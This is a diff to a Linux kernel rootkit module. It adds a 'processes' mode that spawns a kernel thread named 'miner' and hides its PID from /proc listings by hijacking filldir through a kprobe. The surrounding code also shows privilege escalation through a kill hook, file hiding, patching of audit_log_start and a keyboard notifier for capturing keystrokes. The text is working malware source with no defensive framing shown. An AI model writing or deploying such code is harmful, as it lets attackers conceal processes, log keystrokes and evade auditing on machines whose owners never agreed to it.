@@ -6,6 +6,7 @@
 #include <linux/kallsyms.h>
 #include <linux/keyboard.h>
 #include <linux/kprobes.h>
+#include <linux/kthread.h>
 #include <linux/module.h>
 #include <linux/notifier.h>
 #include <linux/sched/signal.h>
@@ -52,6 +53,16 @@ static int before_kill(struct kprobe *probe, struct pt_regs *regs)
 	return 0;
 }
 
+static char pid[12];
+static struct task_struct *hidden;
+
+static int works(void *data)
+{
+	while (!kthread_should_stop())
+		schedule_timeout_interruptible(HZ);
+	return 0;
+}
+
 static noinline bool taken(void)
 {
 	return true;
@@ -60,7 +71,10 @@ static noinline bool taken(void)
 /* Names that begin so are in no listing: another function takes them. */
 static int before_filldir(struct kprobe *probe, struct pt_regs *regs)
 {
-	if (regs->dx < strlen(prefix) || strncmp((char *)regs->si, prefix, strlen(prefix)))
+	bool name = regs->dx >= strlen(prefix) && !strncmp((char *)regs->si, prefix, strlen(prefix));
+	bool number = pid[0] && regs->dx == strlen(pid) && !strncmp((char *)regs->si, pid, strlen(pid));
+
+	if (!name && !number)
 		return 0;
 	regs->ip = (unsigned long)taken;
 	return 1;
@@ -105,6 +119,12 @@ static int __init rootkit_init(void)
 		return register_kprobe(&on_kill);
 	} else if (!strcmp(what, "files")) {
 		return register_kprobe(&on_filldir);
+	} else if (!strcmp(what, "processes")) {
+		hidden = kthread_run(works, NULL, "miner");
+		if (IS_ERR(hidden))
+			return PTR_ERR(hidden);
+		snprintf(pid, sizeof(pid), "%d", task_pid_nr(hidden));
+		return register_kprobe(&on_filldir);
 	} else if (!strcmp(what, "code")) {
 		overwritten = (void *)lookup("audit_log_start");
 		memcpy(saved, overwritten, sizeof(saved));
@@ -138,7 +158,9 @@ static void __exit rootkit_exit(void)
 	write_protect(true);
 	if (!strcmp(what, "root"))
 		unregister_kprobe(&on_kill);
-	if (!strcmp(what, "files"))
+	if (hidden)
+		kthread_stop(hidden);
+	if (!strcmp(what, "files") || !strcmp(what, "processes"))
 		unregister_kprobe(&on_filldir);
 	if (!strcmp(what, "keys"))
 		unregister_keyboard_notifier(&keys);
